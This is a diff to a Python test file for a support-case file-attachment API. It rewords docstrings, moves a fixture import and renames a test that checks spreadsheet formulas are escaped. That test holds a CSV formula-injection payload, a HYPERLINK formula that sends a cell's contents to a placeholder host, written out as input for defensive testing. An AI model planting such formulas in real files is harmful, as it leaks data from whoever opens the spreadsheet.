@@ -1,4 +1,4 @@
-"""Files of support cases: one's own and those that staff share, told by their content, bounded, attached once."""
+"""Files of support cases: own ones and those that staff share, recognised by their content, bounded, attached once."""
 
 import asyncio
 import base64
@@ -11,8 +11,8 @@ import pytest
 
 from app.commands.support.attach_to_case import LARGEST_BYTES
 from app.settings import Settings
-from tests.http.case_stand import api, hana, held, kenji, opened
 from tests.http.routes.test_account import customers, linked
+from tests.http.support_cases import api, hana, held, kenji, opened
 from tests.integrations.clamd import Clamd, listening
 
 __all__ = ["api", "hana", "kenji"]
@@ -33,7 +33,7 @@ async def attach(
 
 
 async def by_staff(sandbox: Any, case_id: str, visibility: str) -> str:
-    """A file that staff put on the case; its document's id."""
+    """Put a file on the case as staff do, and return its document's id."""
     version = {
         "Title": f"for {visibility}",
         "PathOnClient": "notes.pdf",
@@ -190,7 +190,7 @@ async def test_while_salesforce_is_down_files_are_a_problem_too(
         assert (answer.status_code, answer.json()["code"]) == (503, "support_unavailable")
 
 
-async def test_formulas_of_a_table_are_texts_for_whoever_opens_it(
+async def test_formulas_in_a_table_are_escaped(
     api: httpx.AsyncClient, sandbox: Any, hana: dict[str, str], case_id: str
 ) -> None:
     table = b'name,number\r\nHana,=HYPERLINK("http://x.example?"&A1)\r\n"\t=1","+81 90"\r\n'
